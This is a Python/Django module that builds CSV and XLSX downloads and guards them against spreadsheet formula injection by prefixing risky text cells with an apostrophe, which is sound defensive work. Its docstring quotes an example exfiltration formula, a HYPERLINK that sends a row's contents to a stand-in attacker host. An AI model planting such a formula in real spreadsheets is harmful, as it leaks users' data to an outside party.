"""The one writer for every spreadsheet the product makes, CSV or XLSX.

What people type (a voucher address, a survey answer, a practice's name) ends up in cells
that staff open in Excel or LibreOffice. A cell that starts with `=`, `+`, `-`, `@`, a tab
or a carriage return would run as a formula there (`=HYPERLINK("http://evil.example/?"&B2)`
sends the row away), so every text cell is neutralised by putting an apostrophe in front,
as OWASP recommends; numbers, dates and amounts stay real values.
"""

import csv
import datetime
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal

from django.http import HttpResponse
from openpyxl import Workbook  # type: ignore[import-untyped]

Cell = str | int | float | Decimal | datetime.date | None
Row = Sequence[Cell]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET_TITLE_LIMIT = 31  # Excel's limit


def neutral(value: Cell) -> Cell:
    """`value` as a spreadsheet will show it, never run it: text that a spreadsheet would
    read as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutral_row(row: Iterable[Cell]) -> list[Cell]:
    return [neutral(value) for value in row]


@dataclass
class Sheet:
    title: str
    rows: list[Row]
    # Column number (1 for the first) -> an Excel number format, such as "#,##0.00".
    number_formats: dict[int, str] = field(default_factory=dict)


def csv_bytes(rows: Iterable[Row], *, excel_bom: bool = False) -> bytes:
    """CSV in UTF-8 (with a byte-order mark for Excel when `excel_bom`)."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows(neutral_row(row) for row in rows)
    return buffer.getvalue().encode("utf-8-sig" if excel_bom else "utf-8")


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for sheet in sheets:
        page = book.create_sheet(sheet.title[:SHEET_TITLE_LIMIT])
        for row in sheet.rows:
            page.append(neutral_row(row))
        for column, number_format in sheet.number_formats.items():
            for (cell,) in page.iter_rows(min_row=2, min_col=column, max_col=column):
                cell.number_format = number_format
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def download(body: bytes, filename: str, content_type: str) -> HttpResponse:
    response = HttpResponse(body, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_download(rows: Iterable[Row], filename: str, *, excel_bom: bool = False) -> HttpResponse:
    body = csv_bytes(rows, excel_bom=excel_bom)
    return download(body, filename, "text/csv; charset=utf-8")


def xlsx_download(sheets: Sequence[Sheet], filename: str) -> HttpResponse:
    return download(xlsx_bytes(sheets), filename, XLSX)
